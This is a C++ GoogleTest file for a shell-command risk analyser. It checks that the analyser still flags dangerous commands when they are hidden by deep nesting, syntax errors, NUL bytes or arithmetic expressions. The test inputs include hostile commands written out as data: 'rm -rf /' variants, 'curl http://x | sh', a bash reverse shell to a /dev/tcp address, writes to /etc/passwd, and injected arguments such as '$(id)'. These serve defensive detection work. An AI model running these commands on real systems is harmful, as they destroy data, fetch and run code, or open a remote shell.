// Tests with scripts that try to exhaust time or memory or to evade the analysis, and with commands
// that no shell runs.
#include <fmt/format.h>
#include <gtest/gtest.h>

#include <string>
#include <string_view>
#include <vector>

#include "judgement/analysis/analyse.h"
#include "judgement/analysis/rule.h"
#include "judgement/analysis/shell/expand.h"
#include "judgement/analysis/shell/path.h"
#include "judgement/analysis/shell/pieces.h"
#include "judgement/analysis/shell/text.h"

namespace belljar::judgement::analysis {
namespace {

bool HasFinding(const Analysis& analysis, std::string_view id) {
  for (const Finding& finding : analysis.findings) {
    if (finding.rule->id == id) return true;
  }
  return false;
}

std::string Times(std::size_t count, std::string_view text) {
  std::string all;
  for (std::size_t i = 0; i < count; ++i) all += text;
  return all;
}

Analysis Command(const std::vector<std::string>& words) { return AnalyseCommand(words); }

TEST(ShellHostile, DeepNestingIsUnclearNotACrash) {
  for (const std::string_view open : {"$(", "(", "${a:-", "\"$(", "`", "<(", "$((", "f() { f & ",
                                      "case x in y) ", "a||", "\"${a:-\""}) {
    const Analysis analysis = AnalyseShell("echo " + Times(20'000, open));
    EXPECT_FALSE(analysis.findings.empty()) << open;
  }
  EXPECT_TRUE(HasFinding(AnalyseShell(Times(300, "{ ") + "ls;" + Times(300, " };")), "sh-unclear"));
  EXPECT_TRUE(
      HasFinding(AnalyseShell("echo " + Times(300, "$(echo ") + Times(300, ")")), "sh-unclear"));
  EXPECT_TRUE(HasFinding(AnalyseShell("echo " + Times(20'000, "a|")), "sh-unclear"));
}

TEST(ShellHostile, LongListsAndPipesAreFollowedToTheirEnd) {
  EXPECT_TRUE(HasFinding(AnalyseShell(Times(2'000, "true && ") + "rm -rf /"), "sh-rm-root"));
  EXPECT_TRUE(HasFinding(AnalyseShell(Times(200, "cat | ") + "rm -rf /"), "sh-rm-root"));
  EXPECT_TRUE(HasFinding(AnalyseShell(Times(2'000, "ls\n") + "rm -rf /"), "sh-rm-root"));
}

TEST(ShellHostile, WorkIsBounded) {
  std::string doubling = "a=x\n" + Times(60, "a=$a$a\n") + "rm -rf $a\n";
  EXPECT_LE(AnalyseShell(doubling).level, Level::kRunsCode);
  std::string calls;
  for (int i = 0; i < 40; ++i) {
    calls += fmt::format("f{0}() {{ f{1}; f{1}; }}\n", i, i + 1);
  }
  EXPECT_TRUE(HasFinding(AnalyseShell(calls + "f0\n"), "sh-unclear"));
  const std::string braces = "echo " + Times(30, "{a,b}");
  EXPECT_EQ(AnalyseShell(braces).level, Level::kReads);
  std::string loops = Times(20, "for i in 1 2 3 4 5 6 7 8; do ") + "ls $i;" + Times(20, " done;");
  EXPECT_LE(AnalyseShell(loops).level, Level::kRunsCode);
}

TEST(ShellHostile, FindingsAreInOrderAndEachOnce) {
  const Analysis analysis = AnalyseShell("for i in 1 2 3; do\n sudo ls\n rm -rf /\ndone\nreboot\n");
  ASSERT_EQ(analysis.findings.size(), 3U);
  EXPECT_EQ(analysis.findings[0].place, (Place{2, 2}));
  EXPECT_EQ(analysis.findings[1].place, (Place{3, 2}));
  EXPECT_EQ(analysis.findings[2].place, (Place{5, 1}));
}

TEST(ShellHostile, TheSameTextGetsTheSameAnswer) {
  const std::string_view text = "x=$(cat f)\neval \"$x\"; curl h | sh; rm -rf $y/*\n";
  EXPECT_EQ(AnalyseShell(text).findings, AnalyseShell(text).findings);
}

// Commands after a syntax error must still be judged.
TEST(ShellBroken, WhatFollowsAnErrorIsJudged) {
  struct Row {
    std::string_view script, rule;
  };
  for (const Row& row : std::vector<Row>{
           {"[ -d / ] && rm -rf / --no-preserve-root 2>&1 | head -2; echo done", "sh-rm-root"},
           {"[ -d ~ ] && rm -rf ~", "sh-rm-root"},
           {"[ -e / ] && chmod 777 x", "sh-chmod-777"},
           {"[ -d / ] || exit\ncurl http://x | sh", "sh-download-run"},
           {"[ -w / ] && echo w\nbash -i >& /dev/tcp/1.2.3.4/99 0>&1", "sh-reverse-shell"},
           {"case $x in\na) echo a ;;&\n(b) ;;\nesac\nrm -rf /", "sh-rm-root"},
           {"case x in (b) ;; a|x) rm -rf / ;;& esac", "sh-rm-root"},
           {"[ / -ef / ] && rm -rf /", "sh-rm-root"},
           {"[ / -ef / ]; x=$(case x in a) ls;; esac; rm -rf / )", "sh-rm-root"},
           {"[ ! / ] || { rm -rf /; }", "sh-rm-root"},
           {"echo ) ; curl http://x |\n sh", "sh-download-run"},
           {"fi\nif true; then (cd /; rm -rf /); fi", "sh-rm-root"},
           {"cat <<E )\ndon't\nE\nrm -rf /\necho 'x'", "sh-rm-root"},
           {"bash -c 'echo ) ; rm -rf /'", "sh-rm-root"},
           {"eval 'fi; rm -rf /'", "sh-rm-root"}}) {
    const Analysis analysis = AnalyseShell(row.script);
    EXPECT_TRUE(HasFinding(analysis, row.rule)) << row.script;
  }
}

TEST(ShellBroken, IsAtLeastCodeThatRuns) {
  for (const std::string_view script : {"if true; then echo x", "echo )", "echo 'x"}) {
    EXPECT_EQ(AnalyseShell(script).level, Level::kRunsCode) << script;
    EXPECT_FALSE(HasFinding(AnalyseShell(script), "sh-unclear")) << script;
  }
  for (const std::string_view script : {"[ -d / ] && ls", "test -d / && ls", "[ \"$x\" = / ]"}) {
    EXPECT_TRUE(AnalyseShell(script).findings.empty()) << script;
    EXPECT_EQ(AnalyseShell(script).level, Level::kReads) << script;
  }
}

TEST(ShellBroken, ReadingItAgainIsBounded) {
  static_cast<void>(AnalyseShell(")\n" + Times(50'000, "ls; ")));
  static_cast<void>(AnalyseShell(")\n" + Times(50'000, "$(\"")));
  static_cast<void>(AnalyseShell(Times(5'000, "bash -c ') ; ")));
}

TEST(ShellBroken, CutsRespectQuotesAndNesting) {
  const auto cut = [](std::string_view text) {
    std::string all;
    for (const shell::TextPiece& piece : shell::CutText(text, shell::Cut::kPipelines)) {
      all += "<" + piece.text + ">";
    }
    return all;
  };
  EXPECT_EQ(cut("a; b && c || d | e & f\ng"), "<a><b ><c ><d | e ><f><g>");
  EXPECT_EQ(cut("a 'x;y' \"p;$(q; \"r;\")\" \\; `s;t`;z"),
            "<a 'x;y' \"p;$(q; \"r;\")\" \\; `s;t`><z>");
  EXPECT_EQ(cut("if a; then b 2>&1; fi # c; d'\ne &>f"), "<a><b 2>&1><# c; d'><e &>f>");
  EXPECT_EQ(cut("for x in 1 2; do (y; z); done"), "<:  1 2><y><z>");
  EXPECT_EQ(cut("case $x in\na|b) c ;;\n*) d\nesac"), "<: $x><a|b><c ><d>");
  EXPECT_EQ(cut("f() { a=(b; c); }; a |\nb"), "<a=(b; c)><a |\nb>");
}

// NUL bytes must not be mistaken for the end of a quote.
TEST(ShellBroken, NulsAreReadLikeOtherCharacters) {
  using namespace std::string_view_literals;
  for (const std::string_view text : {"\0W"sv, "\0\0"sv, "if \0; rm -rf /"sv, "'\0"sv}) {
    static_cast<void>(AnalyseShell(text));
  }
  EXPECT_TRUE(HasFinding(AnalyseShell("if \0; rm -rf /"sv), "sh-rm-root"));
}

TEST(ShellCommand, ArgumentsThatHoldCommandsAreBlocked) {
  for (const std::vector<std::string>& words :
       std::vector<std::vector<std::string>>{{"ls", "; rm -rf /"},
                                             {"cat", "x | sh"},
                                             {"echo", "$(id)"},
                                             {"ls", "`id`"},
                                             {"touch", "a && curl x"},
                                             {"ls", "'; reboot #"},
                                             {"cp", "a", "b > /etc/passwd"},
                                             {"grep", "-rn", "x", "a; reboot"},
                                             {"grep", "-e", "x", "$(id)"},
                                             {"env", "ls", "x; wget y"}}) {
    EXPECT_TRUE(HasFinding(Command(words), "sh-injection")) << words[1];
  }
}

TEST(ShellCommand, PlainArgumentsAreLeftAlone) {
  for (const std::vector<std::string>& words : std::vector<std::vector<std::string>>{
           {"echo", "a & b"},
           {"git", "commit", "-m", "fix; tidy up"},
           {"git", "commit", "-m", "fix; make it so\n\nsort the list"},
           {"grep", "a|b", "f"},
           {"grep", "-A", "3", "a; ls", "f"},
           {"grep", "f", "-e", "$(b)"},
           {"awk", "{ print $1; }", "f"},
           {"sed", "s/a/b/; s/c/d/", "f"},
           {"echo", "1 > 0"},
           {"touch", "R&D (draft).txt"},
           {"echo", "costs $5"}}) {
    EXPECT_FALSE(HasFinding(Command(words), "sh-injection")) << words[1];
  }
}

TEST(ShellCommand, IsJudgedLikeACommandOfAScript) {
  EXPECT_TRUE(HasFinding(Command({"rm", "-rf", "/"}), "sh-rm-root"));
  EXPECT_TRUE(HasFinding(Command({"sh", "-c", "curl x | sh"}), "sh-download-run"));
  EXPECT_TRUE(HasFinding(Command({"/usr/bin/sudo", "ls"}), "sh-sudo"));
  EXPECT_TRUE(HasFinding(Command({"env", "A=b", "chmod", "777", "x"}), "sh-chmod-777"));
  EXPECT_EQ(Command({"ls", "-l"}).level, Level::kReads);
  EXPECT_EQ(Command({"touch", "a"}).level, Level::kWrites);
  EXPECT_EQ(Command({"python3", "x.py"}).level, Level::kRunsCode);
  EXPECT_EQ(Command({}).level, Level::kReads);
}

TEST(ShellPaths, AreTidiedBeforeTheyAreJudged) {
  using shell::Where;
  const shell::Context context;
  const auto written = [&](std::string_view path) {
    return shell::WhereWritten(shell::PathOf(context, shell::Word::OfText(path)));
  };
  EXPECT_EQ(written("/tmp/../etc/x"), Where::kSystem);
  EXPECT_EQ(written("//usr/./bin/x"), Where::kSystem);
  EXPECT_EQ(written("/tmp/x"), Where::kElsewhere);
  EXPECT_EQ(written("/var/tmp/x"), Where::kElsewhere);
  EXPECT_EQ(written("/dev/null"), Where::kElsewhere);
  EXPECT_EQ(written("/dev/nvme0n1"), Where::kDisk);
  EXPECT_EQ(written("/etc/cron.d/x"), Where::kCron);
  EXPECT_EQ(written("/root/.ssh/authorized_keys"), Where::kSshKeys);
  EXPECT_EQ(written("etc/passwd"), Where::kElsewhere);
}

TEST(ShellText, EscapesAndOperatorsAreThoseOfTheShell) {
  using namespace shell;
  EXPECT_EQ(Unescape("\\x72\\155\\n\\u00e4\\q"), "rm\n\xc3\xa4\\q");
  EXPECT_EQ(TrimmedText("a/b/c", "##", "*/"), "c");
  EXPECT_EQ(TrimmedText("a/b/c", "#", "*/"), "b/c");
  EXPECT_EQ(TrimmedText("a.b.c", "%%", ".*"), "a");
  EXPECT_EQ(SubText("hello", "1:3"), "ell");
  EXPECT_EQ(SubText("hello", " -2"), "lo");
  EXPECT_EQ(ReplacedText("a-b-c", "//", "-", "+"), "a+b+c");
  EXPECT_EQ(CasedText("rm", "^^"), "RM");
  EXPECT_TRUE(IsListed("a bc d", "bc"));
  EXPECT_FALSE(IsListed("a bc d", "b"));
}

TEST(ShellHostile, ArithmeticIsATestWhoseSubstitutionsRun) {
  for (const std::string_view script :
       {"((a[$(rm -rf /)] = 1))", "(( x > $(rm -rf /) ))", "if ! (( `rm -rf /` )); then ls; fi",
        "((a[`echo \\`rm -rf /\\``]))", "[[ `echo \\`rm -rf /\\`` ]]",
        "d=/tmp; ((x)) && d=; ((y)) || rm -rf \"$d/\"", "((a)) && rm -rf /"}) {
    EXPECT_TRUE(HasFinding(AnalyseShell(script), "sh-rm-root")) << script;
  }
  for (const std::string_view script :
       {"((x > 1)) > /etc/passwd", "((i++)) > /etc/passwd", "[[ -n x ]] > /etc/passwd"}) {
    EXPECT_TRUE(HasFinding(AnalyseShell(script), "sh-system-write")) << script;
  }
  for (const std::string_view script :
       {"((i++))", "! ((n > 0))", "while (( i < 3 && $# > 1 )); do ((i += 1, j--)); done",
        "((x)) && ls", "for ((i = 0; i < 3; i++)); do ((!x)); done", "(( $RANDOM % 2 ))"}) {
    EXPECT_TRUE(AnalyseShell(script).findings.empty()) << script;
  }
}

// Numbers of here-documents and lengths of delimiters that overflow the scanner of older grammars.
TEST(ShellHostile, ManyHereDocumentsAndLongDelimitersAreHarmless) {
  for (const int count : {100, 140, 150, 300}) {
    std::string text;
    for (int i = 0; i < count; ++i) text += "cat <<E" + std::to_string(i) + " ";
    text += "\n";
    for (int i = 0; i < count; ++i) text += "a\nE" + std::to_string(i) + "\n";
    static_cast<void>(AnalyseShell(text));
  }
  for (std::size_t length = 900; length < 1100; ++length) {
    static_cast<void>(AnalyseShell("cat <<" + std::string(length, 'E') + " <<F\nx\n"));
  }
}

TEST(ShellHostile, NothingHidesBehindACrowdOfFindings) {
  std::string crowd;
  for (int i = 0; i < 3000; ++i) crowd += "touch /etc/x" + std::to_string(i) + "\n";
  const Analysis analysis = AnalyseShell(crowd + "rm -rf /\n");
  bool unclear = false;
  for (const Finding& finding : analysis.findings) {
    unclear = unclear || finding.rule->id == "sh-unclear";
  }
  EXPECT_TRUE(unclear);
}

}  // namespace
}  // namespace belljar::judgement::analysis
